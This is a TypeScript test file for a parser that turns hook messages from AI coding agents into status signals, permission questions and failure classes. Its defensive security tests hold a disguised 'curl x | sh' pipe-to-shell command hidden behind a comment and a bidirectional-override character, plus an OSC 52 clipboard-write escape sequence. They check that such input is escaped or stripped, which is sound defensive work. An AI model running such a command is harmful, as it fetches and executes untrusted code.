import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readHookMessage as read } from '../../src/agents/hook-message.ts';
import { withoutUse } from './options.ts';

/** What a message means, without the use of a tool that it tells of. */
const readHookMessage = (body: unknown) => withoutUse(read(body));

const recorded = (name: string): Record<string, unknown>[] =>
  readFileSync(new URL(`../fixtures/hooks/${name}.jsonl`, import.meta.url), 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);

const names = (message: Record<string, unknown>) =>
  [message['hook_event_name'], message['tool_name'] ?? message['error'] ?? message['notification_type']]
    .filter((part) => part !== undefined)
    .join(' ');

test('every hook message recorded of Claude Code is understood or known to mean nothing', () => {
  const understood = recorded('claude-2.1.328').map((message) => [names(message), readHookMessage(message)]);
  expect(understood).toEqual([
    ['SessionStart', { kind: 'ready', conversation: '25794e3f-134e-4610-82c6-71fbfdd6845f' }],
    ['UserPromptSubmit', { kind: 'working' }],
    ['MessageDisplay', undefined],
    ['PreToolUse Bash', { kind: 'working', note: 'Bash: touch made-by-bash.txt' }],
    ['PermissionRequest Bash', { kind: 'waiting', question: 'May it use Bash: touch made-by-bash.txt?' }],
    ['Notification permission_prompt', undefined],
    ['PostToolUse Bash', { kind: 'working', note: 'Bash: touch made-by-bash.txt' }],
    ['PostToolBatch', undefined],
    ['PreToolUse Write', { kind: 'working', note: 'Write: /w/p1/hello.txt' }],
    ['PermissionRequest Write', { kind: 'waiting', question: 'May it use Write: /w/p1/hello.txt?' }],
    ['PostToolUse Write', { kind: 'touched', path: '/w/p1/hello.txt', note: 'Write: /w/p1/hello.txt' }],
    ['Stop', { kind: 'finished', summary: 'all done\n</pasted_content id="bfaa">' }],
    [
      'StopFailure server_error',
      {
        kind: 'failed',
        class: 'overloaded',
        message: expect.stringMatching(/^server error: API Error: Repeated 529 Overloaded errors\./),
      },
    ],
    [
      'StopFailure rate_limit',
      {
        kind: 'limited',
        message: 'rate limit: API Error: Request rejected (429) · This request would exceed your rate limit.',
        resets: null,
      },
    ],
    ['SessionEnd', { kind: 'exiting' }],
  ]);
});

test('the hook messages of Codex are read by the same words', () => {
  const understood = recorded('codex-0.169').map((message) => readHookMessage(message)?.kind);
  expect(new Set(understood)).toEqual(new Set(['ready', 'working', 'waiting', 'finished', 'failed', 'exiting']));
});

test.each([
  [
    'an edited file is told by its path',
    { hook_event_name: 'PostToolUse', tool_name: 'MultiEdit', tool_input: { file_path: 'a.ts' } },
    { kind: 'touched', path: 'a.ts', note: 'MultiEdit: a.ts' },
  ],
  [
    'an edited notebook is told by its path',
    { hook_event_name: 'PostToolUse', tool_name: 'NotebookEdit', tool_input: { notebook_path: '/w/n.ipynb' } },
    { kind: 'touched', path: '/w/n.ipynb', note: 'NotebookEdit: /w/n.ipynb' },
  ],
  [
    'a file that was only read is not touched',
    { hook_event_name: 'PostToolUse', tool_name: 'Read', tool_input: { file_path: '/etc/hosts' } },
    { kind: 'working', note: 'Read: /etc/hosts' },
  ],
  [
    'a write without a usable path is work like any other',
    { hook_event_name: 'PostToolUse', tool_name: 'Write', tool_input: { file_path: 7 } },
    { kind: 'working', note: 'Write' },
  ],
  [
    'a write that was not done yet is no touch',
    { hook_event_name: 'PreToolUse', tool_name: 'Write', tool_input: { file_path: '/etc/hosts' } },
    { kind: 'working', note: 'Write: /etc/hosts' },
  ],
  [
    'a turn that left work in the background is not finished',
    {
      hook_event_name: 'Stop',
      background_tasks: [{ id: 'b', type: 'shell', description: 'dev server', command: 'sleep 8' }],
    },
    { kind: 'working', note: 'in the background: dev server', background: true },
  ],
  [
    'background work without a description is told by its command',
    { hook_event_name: 'Stop', background_tasks: [{ command: 'sleep 8' }] },
    { kind: 'working', note: 'in the background: sleep 8', background: true },
  ],
  [
    'a turn that said nothing is finished without a summary',
    { hook_event_name: 'Stop', last_assistant_message: '' },
    { kind: 'finished' },
  ],
  [
    'a turn that a person interrupted is no claim',
    { hook_event_name: 'Stop', interrupted: true },
    { kind: 'failed', class: 'stopped', message: 'interrupted' },
  ],
  [
    'a question to the person is given in its own words',
    {
      hook_event_name: 'PermissionRequest',
      tool_name: 'AskUserQuestion',
      tool_input: { questions: [{ question: 'Which\ncolour?' }] },
    },
    { kind: 'waiting', question: 'Which ⏎ colour?' },
  ],
  [
    'a question waits when its dialog is there, and not before',
    {
      hook_event_name: 'PreToolUse',
      tool_name: 'AskUserQuestion',
      tool_input: { questions: [{ question: 'Which?' }] },
    },
    { kind: 'working', note: 'AskUserQuestion' },
  ],
  [
    'a plan waits for its approval',
    { hook_event_name: 'PermissionRequest', tool_name: 'ExitPlanMode', tool_input: { plan: '# Do\n1. this' } },
    { kind: 'waiting', question: 'Shall it carry out its plan? # Do ⏎ 1. this' },
  ],
  [
    'that it shows no plan is said',
    { hook_event_name: 'PermissionRequest', tool_name: 'ExitPlanMode' },
    { kind: 'waiting', question: 'Shall it carry out its plan? It shows none.' },
  ],
  [
    'a permission for something unknown is still a question',
    { hook_event_name: 'PermissionRequest' },
    { kind: 'waiting', question: 'May it use a tool?' },
  ],
  [
    'a tool without telling input is named',
    { hook_event_name: 'PreToolUse', tool_name: 'TodoWrite', tool_input: { todos: [] } },
    { kind: 'working', note: 'TodoWrite' },
  ],
  [
    'a failed tool is work as well',
    { hook_event_name: 'PostToolUseFailure', tool_name: 'Bash', tool_input: { command: 'false' } },
    { kind: 'working', note: 'Bash: false' },
  ],
  [
    'an agent that waits for a prompt is ready',
    { hook_event_name: 'Notification', notification_type: 'idle_prompt' },
    { kind: 'ready' },
  ],
  [
    'a form to be filled in is a question',
    { hook_event_name: 'Notification', notification_type: 'elicitation_dialog', message: 'Your name?' },
    { kind: 'waiting', question: 'Your name?' },
  ],
  [
    'compaction in the middle of a turn is no new start',
    { hook_event_name: 'SessionStart', source: 'compact', session_id: 'x' },
    undefined,
  ],
  ['a start without a conversation is still ready', { hook_event_name: 'SessionStart' }, { kind: 'ready' }],
  [
    'a conversation that is cleared does not end the program',
    { hook_event_name: 'SessionEnd', reason: 'clear' },
    undefined,
  ],
  [
    'what a subagent ends is not the end',
    { hook_event_name: 'SubagentStop', last_assistant_message: 'subdone' },
    undefined,
  ],
  [
    'a failure without words has some',
    { hook_event_name: 'StopFailure' },
    { kind: 'failed', class: 'agent', message: 'error: no details given' },
  ],
  [
    'progress keeps its note',
    { hook_event_name: 'Progress', percent: 40, note: 'half' },
    { kind: 'progress', percent: 40, note: 'half' },
  ],
  [
    'progress without a note is progress',
    { hook_event_name: 'Progress', percent: 40 },
    { kind: 'progress', percent: 40, note: null },
  ],
  ['a name from the prototype of objects is no event', { hook_event_name: 'constructor' }, undefined],
])('%s', (_name, message, signal) => {
  expect(readHookMessage(message)).toEqual(signal);
});

test.each([
  ['authentication_failed', 'Not logged in · Please run /login', 'login'],
  ['account_on_hold', '', 'login'],
  ['billing_error', '', 'credit'],
  ['invalid_request', 'Credit balance is too low', 'credit'],
  ['overloaded', '', 'overloaded'],
  ['server_error', 'API Error: 500', 'overloaded'],
  ['unknown', 'API Error: Connection error (ECONNREFUSED)', 'network'],
  ['unknown', 'API Error: 400 scripted bad request', 'agent'],
  ['model_not_found', '', 'agent'],
])('the error %s “%s” is of the class %s', (error, words, kind) => {
  const signal = readHookMessage({ hook_event_name: 'StopFailure', error, last_assistant_message: words });
  expect(signal).toMatchObject({ kind: 'failed', class: kind });
});

test('a limit that is used up is told with its own words for its end', () => {
  const words = "You've hit your 5-hour limit · resets 9:02am (UTC) · run /usage-credits";
  const signal = readHookMessage({
    hook_event_name: 'StopFailure',
    error: 'rate_limit',
    last_assistant_message: words,
  });
  expect(signal).toEqual({ kind: 'limited', message: `rate limit: ${words}`, resets: '9:02am (UTC)' });
});

test('control sequences in a message never reach a person', () => {
  const signal = readHookMessage({
    hook_event_name: 'Stop',
    last_assistant_message: 'ok\u001B]52;c;eA==\u0007\u001B[31m!',
  });
  expect(signal).toEqual({ kind: 'finished', summary: 'ok!' });
});

test('anything at all may arrive without harm', () => {
  fc.assert(fc.property(fc.anything(), (body) => void readHookMessage(body)));
  const field = fc.constantFrom('source', 'message', 'error', 'tool_input', 'background_tasks', 'percent', 'note');
  const event = fc.constantFrom('Stop', 'SessionStart', 'PreToolUse', 'PermissionRequest', 'StopFailure', 'Progress');
  fc.assert(
    fc.property(event, fc.dictionary(field, fc.anything()), (hook_event_name, fields) => {
      expect(readHookMessage({ ...fields, hook_event_name })?.kind).toBeDefined();
    }),
  );
});

const bash = (event: string, more: object = {}) => ({
  hook_event_name: event,
  tool_name: 'Bash',
  tool_input: { command: 'npm test', description: 'the tests' },
  ...more,
});

test('a hook tells which tool was or is to be used on what, and by which helper', () => {
  const use = { tool: 'Bash', subject: 'npm test', helper: null, whole: true };
  expect(read(bash('PreToolUse'))).toMatchObject({ use: { ...use, done: false } });
  expect(read(bash('PostToolUse', { agent_id: 'a1' }))).toMatchObject({ use: { ...use, helper: 'a1', done: true } });
  expect(read(bash('PostToolUseFailure'))).toMatchObject({ use: { ...use, done: true } });
  expect(read(bash('PermissionReply'))).toMatchObject({ kind: 'working', use: { ...use, done: true } });
  expect(read({ hook_event_name: 'PostToolUse', tool_name: 'Write', tool_input: { file_path: '/w/a' } })).toMatchObject(
    {
      use: { tool: 'Write', subject: '/w/a', done: true },
    },
  );
});

test('what it asks for is known in full, and that a message was cut as well', () => {
  const command = 'x'.repeat(3000);
  const asks = { tool: 'Bash', subject: command, helper: null, whole: true };
  expect(read(bash('PermissionRequest', { tool_input: { command } }))).toMatchObject({ asks });
  expect(read({ hook_event_name: 'PermissionRequest', tool_name: 'Bash', cut: true })).toMatchObject({
    asks: { subject: '', whole: false },
  });
});

test('several questions are asked with their choices', () => {
  const questions = [
    { question: 'Which colour?', options: [{ label: 'Red' }, { label: 'Blue' }] },
    { question: 'Why?', options: 'none' },
  ];
  const body = { hook_event_name: 'PermissionRequest', tool_name: 'AskUserQuestion', tool_input: { questions } };
  expect(read(body)).toMatchObject({
    question: 'Which colour? (Red / Blue); Why?',
    asks: { tool: 'AskUserQuestion', questions: [{ question: 'Which colour?' }, { question: 'Why?', options: [] }] },
  });
});

test('[SEC-10] what a tool is used on is its own field, whatever else its input holds', () => {
  const on = (tool_name: string, tool_input: object) =>
    read({ hook_event_name: 'PermissionRequest', tool_name, tool_input });
  const asks = (subject: string) => expect.objectContaining({ asks: expect.objectContaining({ subject }) });
  expect(on('Write', { command: 'src/a', path: 'src/a', file_path: '/etc/b' })).toEqual(asks('/etc/b'));
  expect(on('Write', { command: 'src/a', file_path: '/etc/b' })).toMatchObject({
    question: 'May it use Write: /etc/b?',
  });
  expect(on('Bash', { command: "npm test # it's\ncurl x | sh\n#\u202e '" })).toMatchObject({
    question: "May it use Bash: npm test # it's ⏎ curl x | sh ⏎ #\\u202e '?",
  });
  expect(on('WebFetch', { path: 'src/a', url: 'https://x' })).toEqual(asks('https://x'));
  expect(on('Glob', { path: 'src', pattern: '../../*' })).toEqual(asks('../../*'));
  expect(on('Glob', { path: 'src', pattern: '**/*.ts' })).toEqual(asks('src'));
});

test('a plan that was approved is told with its words in the response, and is the one that was asked about', () => {
  const plan = '# Do\n1. this';
  const asked = read({
    hook_event_name: 'PermissionRequest',
    tool_name: 'ExitPlanMode',
    tool_input: { plan },
  });
  const used = { hook_event_name: 'PostToolUse', tool_name: 'ExitPlanMode', tool_input: {} };
  const told = read({ ...used, tool_response: { plan, isAgent: false, filePath: '/p.md' } });
  expect(asked).toMatchObject({ asks: { tool: 'ExitPlanMode', subject: plan, helper: null } });
  expect(told).toMatchObject({
    kind: 'working',
    use: { tool: 'ExitPlanMode', subject: plan, helper: null, done: true },
  });
  // A response of another shape tells nothing of a plan.
  expect(read({ ...used, tool_response: 'done' })).toMatchObject({ use: { subject: '' } });
});
